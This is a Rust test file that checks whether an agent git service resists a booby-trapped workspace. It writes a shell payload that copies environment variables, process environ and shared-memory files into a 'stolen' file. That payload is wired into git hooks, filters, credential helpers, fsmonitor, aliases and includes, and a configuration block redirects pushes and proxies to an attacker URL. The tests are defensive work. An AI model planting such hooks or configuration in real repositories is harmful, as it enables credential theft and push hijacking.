//! A workspace that was turned against its owner: configuration, hooks and attributes that run commands and
//! send pushes elsewhere. With a token at hand none of it happens.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use gitledger::remote::Access;
use gitledger_tests::canary::Canary;
use gitledger_tests::origin::APP;
use gitledger_tests::trap::Trap;
use gitledger_tests::{Agent, Origin, Setup, system};
use serde_json::json;

use super::{read, sandbox_dir, write, write_program};

const HOOKS: [&str; 14] = [
    "pre-push",
    "pre-commit",
    "commit-msg",
    "prepare-commit-msg",
    "post-commit",
    "post-index-change",
    "post-checkout",
    "post-merge",
    "post-rewrite",
    "pre-rebase",
    "pre-merge-commit",
    "reference-transaction",
    "pre-auto-gc",
    "push-to-checkout",
];

/// A hostile workspace: where its parts lie on this machine, and what they are called by those who run in it.
struct Hostile {
    workspace: PathBuf,
    home: PathBuf,
    tmp: PathBuf,
    home_inside: String,
    tmp_inside: String,
}

impl Hostile {
    fn of_sandbox(dir: &Path) -> Self {
        let home = dir.join("home/user");
        let (home_inside, tmp_inside) = ("/home/user".to_owned(), "/tmp".to_owned());
        Self { workspace: home.join("workspace"), home, tmp: dir.join("tmp"), home_inside, tmp_inside }
    }

    fn on_this_machine(dir: &Path) -> Self {
        let (home, tmp) = (dir.join("home"), dir.join("tmp"));
        let inside = |path: &Path| path.to_string_lossy().into_owned();
        let (home_inside, tmp_inside) = (inside(&home), inside(&tmp));
        Self { workspace: home.join("workspace"), home, tmp, home_inside, tmp_inside }
    }

    /// Lays all traps. `origin` is where the workspace came from.
    fn arm(&self, origin: &str, attacker: &str) {
        let fired = format!("{}/fired", self.tmp_inside);
        let stolen = format!("{}/stolen", self.tmp_inside);
        let payload = format!(
            "#!/bin/sh\necho \"$0 $*\" >> {fired}\n\
             for file in /dev/shm/*/*; do test -f \"$file\" && cat \"$file\" >> {stolen}; done\n\
             env >> {stolen}\ncat /proc/$PPID/environ >> {stolen}\n\
             case \"$0\" in */clean|*/smudge) exec cat ;; esac\n"
        );
        for name in [
            "fsmonitor",
            "clean",
            "smudge",
            "helper",
            "askpass",
            "ssh",
            "driver",
            "textconv",
            "external",
            "gpg",
            "alias",
            "pager",
            "receivepack",
            "hook",
            "included",
            "proxy",
            "alternates",
            "packobjects",
        ] {
            write_program(&self.home.join("payload").join(name), &payload);
        }
        for name in HOOKS {
            write_program(&self.home.join("hooks").join(name), &payload);
            write_program(&self.workspace.join(".git/hooks").join(name), &payload);
        }
        let attributes = "* filter=evil diff=evil merge=evil\n";
        write(&self.workspace.join(".gitattributes"), attributes);
        write(&self.workspace.join(".git/info/attributes"), attributes);
        write(
            &self.home.join("included"),
            &format!("[core]\n\tfsmonitor = {}/payload/included\n", self.home_inside),
        );
        write(&self.home.join(".netrc"), "machine 127.0.0.1 login x password y\n");
        let own = read(&self.workspace.join(".git/config")).expect("a configuration");
        write(&self.workspace.join(".git/config"), &(own + &self.configuration(origin, attacker)));
        // The user's own configuration, too.
        write(&self.home.join(".gitconfig"), &self.configuration(origin, attacker));
    }

    fn configuration(&self, origin: &str, attacker: &str) -> String {
        let payload = format!("{}/payload", self.home_inside);
        let home = &self.home_inside;
        format!(
            "[url \"{attacker}\"]\n\tinsteadOf = {origin}\n\tpushInsteadOf = {origin}\n\
             [core]\n\thooksPath = {home}/hooks\n\tfsmonitor = {payload}/fsmonitor\n\tsshCommand = {payload}/ssh\n\
             \taskPass = {payload}/askpass\n\tpager = {payload}/pager\n\teditor = {payload}/pager\n\tgitProxy = {payload}/proxy\n\
             \talternateRefsCommand = {payload}/alternates\n\
             [credential]\n\thelper = !{payload}/helper\n[credential \"{origin}\"]\n\thelper = !{payload}/helper\n\tusername = x\n\
             [http]\n\tproxy = {attacker}\n\tfollowRedirects = true\n\tcookieFile = {home}/cookies\n\tsaveCookies = true\n\
             [http \"{origin}\"]\n\tproxy = {attacker}\n\tsslVerify = false\n\
             [remote \"origin\"]\n\tpushurl = {attacker}acme/app.git\n\tproxy = {attacker}\n\treceivepack = {payload}/receivepack\n\
             \tuploadpack = {payload}/receivepack\n\
             [filter \"evil\"]\n\tclean = {payload}/clean\n\tsmudge = {payload}/smudge\n\
             [diff]\n\texternal = {payload}/external\n[diff \"evil\"]\n\ttextconv = {payload}/textconv\n\tcommand = {payload}/external\n\
             [merge \"evil\"]\n\tname = evil\n\tdriver = {payload}/driver %O %A %B\n\
             [gpg]\n\tprogram = {payload}/gpg\n[commit]\n\tgpgSign = true\n[push]\n\tgpgSign = if-asked\n\
             [alias]\n\tpush = !{payload}/alias\n\tstatus = !{payload}/alias\n\
             [protocol]\n\tallow = always\n[protocol \"ext\"]\n\tallow = always\n\
             [hook \"evil\"]\n\tcommand = {payload}/hook\n\tevent = pre-push\n\tevent = pre-commit\n\tevent = reference-transaction\n\
             [uploadpack]\n\tpackObjectsHook = {payload}/packobjects\n\
             [include]\n\tpath = {home}/included\n"
        )
    }

    /// The payloads that ran, with what they were told.
    fn fired(&self) -> String {
        read(&self.tmp.join("fired")).unwrap_or_default()
    }

    fn stolen(&self) -> Vec<u8> {
        std::fs::read(self.tmp.join("stolen")).unwrap_or_default()
    }
}

/// Arms the workspace of an agent's sandbox.
fn arm(agent: &Agent<'_>, dir: &Path, origin: &Origin, attacker: &Trap) -> Hostile {
    let hostile = Hostile::of_sandbox(dir);
    assert!(hostile.workspace.join(".git/config").is_file(), "{}", agent.cloned);
    hostile.arm(&origin.remote.url(), &attacker.url());
    hostile
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_workspace_neither_gets_the_token_nor_sends_a_push_elsewhere() {
    let canary = Canary::new();
    let origin = Origin::with_token(canary.secret()).await;
    origin.remote.set_access(APP, Access::PRIVATE).expect("a repository");
    let attacker = Trap::asking();
    let setup = Setup::new().admitting(&origin);
    let system = setup.start().await;
    let agent = Agent::clone(&system, &origin.app(), "a1", "t1").await;
    let hostile = arm(&agent, &sandbox_dir(&system, agent.sandbox_id()), &origin, &attacker);

    // Everything that looks and writes here, then everything that carries the token.
    let write = json!({"path": "NOTES.md", "content": "hello\n"});
    for (operation, input) in [
        ("file-write", write),
        ("status", json!({})),
        ("diff", json!({})),
        ("add", json!({"files": ["NOTES.md"]})),
        ("commit", json!({"message": "Say hello"})),
        ("log", json!({})),
        ("push", json!({})),
        ("fetch", json!({})),
        ("pull", json!({})),
    ] {
        agent.operate(operation, input).await;
        assert_eq!(hostile.fired(), "", "fired by {operation}");
    }
    // Somebody else's commit on the same branch: the next push fetches and rebases, armed as it all is.
    let other = Agent::clone(&system, &origin.app(), "a2", "t1").await;
    other.operate("fetch", json!({})).await;
    let branch = agent.branch().to_owned();
    other.operate("pull", json!({"branch": branch})).await;
    other.commit("OTHER.md", "other\n").await;
    other.operate("push", json!({"branch": branch})).await;
    agent.operate("file-write", json!({"path": "MORE.md", "content": "more\n"})).await;
    let input = json!({"commit_message": "Write more", "files": ["MORE.md", "NOTES.md", ".gitattributes"]});
    let pushed = agent.operate("push", input).await;
    assert_eq!(pushed["output"]["rebased"], true, "{pushed:#}");
    assert_eq!(origin.tip(&branch).as_deref(), pushed["output"]["commit_hash"].as_str());

    assert_eq!(hostile.fired(), "", "a payload ran");
    assert!(canary.found_in(&hostile.stolen()).is_none(), "a payload had the token");
    assert_eq!(attacker.heard(), Vec::<Vec<u8>>::new(), "the attacker was spoken to");
    system.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_clone_into_a_hostile_sandbox_is_safe_too() {
    let canary = Canary::new();
    let origin = Origin::with_token(canary.secret()).await;
    origin.remote.set_access(APP, Access::PRIVATE).expect("a repository");
    let attacker = Trap::asking();
    let setup = Setup::new().admitting(&origin);
    let system = setup.start().await;
    let agent = Agent::clone(&system, &origin.app(), "a1", "t1").await;
    let hostile = arm(&agent, &sandbox_dir(&system, agent.sandbox_id()), &origin, &attacker);
    // The same agent, task and repository: the sandbox that it left behind is used again.
    let again = Agent::clone(&system, &origin.app(), "a1", "t1").await;
    assert_eq!(again.sandbox_id(), agent.sandbox_id(), "the sandbox was not used again");
    let commit = again.commit("NOTES.md", "hello\n").await;
    again.push().await;
    assert_eq!(origin.tip(again.branch()).as_deref(), Some(commit.as_str()));
    assert_eq!(hostile.fired(), "", "a payload ran");
    assert!(canary.found_in(&hostile.stolen()).is_none(), "a payload had the token");
    assert_eq!(attacker.heard(), Vec::<Vec<u8>>::new(), "the attacker was spoken to");
    system.stop().await;
}

/// The same traps under plain git: it runs them and talks to the attacker. Without this, the tests above could
/// pass because the traps do not work.
#[test]
fn plain_git_walks_into_the_same_traps() {
    let dir = system::temporary();
    let hostile = Hostile::on_this_machine(dir.path());
    let attacker = Trap::asking();
    let (origin, path) = ("http://127.0.0.1:1/", hostile.workspace.clone());
    std::fs::create_dir_all(&hostile.tmp).expect("a directory");
    std::fs::create_dir_all(&path).expect("a directory");
    let git = |arguments: &[&str]| {
        // What waits for a payload that does not speak its language is ended.
        let mut git = Command::new("timeout");
        git.args(["20", "git", "-C"]).arg(&path).args(arguments).env_clear();
        git.env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &hostile.home)
            .env("GIT_TERMINAL_PROMPT", "0");
        for name in ["GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"] {
            git.env(name, "x");
        }
        // Whether it succeeds is no matter: what it ran is.
        git.stdin(Stdio::null()).output().expect("git");
    };
    git(&["init", "--quiet", "--initial-branch=main"]);
    git(&["remote", "add", "origin", &format!("{origin}acme/app.git")]);
    write(&path.join("NOTES.md"), "hello\n");
    hostile.arm(origin, &attacker.url());
    git(&["status"]);
    git(&["add", "NOTES.md"]);
    git(&["-c", "commit.gpgSign=false", "commit", "--message=x"]);
    git(&["push", "origin", "main"]);
    git(&["fetch", "origin"]);
    let fired = hostile.fired();
    for payload in ["payload/clean", "hooks/pre-commit", "payload/helper"] {
        assert!(fired.contains(payload), "{payload} did not fire: {fired}");
    }
    assert!(fired.contains("payload/included") || fired.contains("payload/fsmonitor"), "{fired}");
    assert!(!attacker.heard().is_empty(), "plain git did not talk to the attacker");
    assert!(!hostile.stolen().is_empty());
}
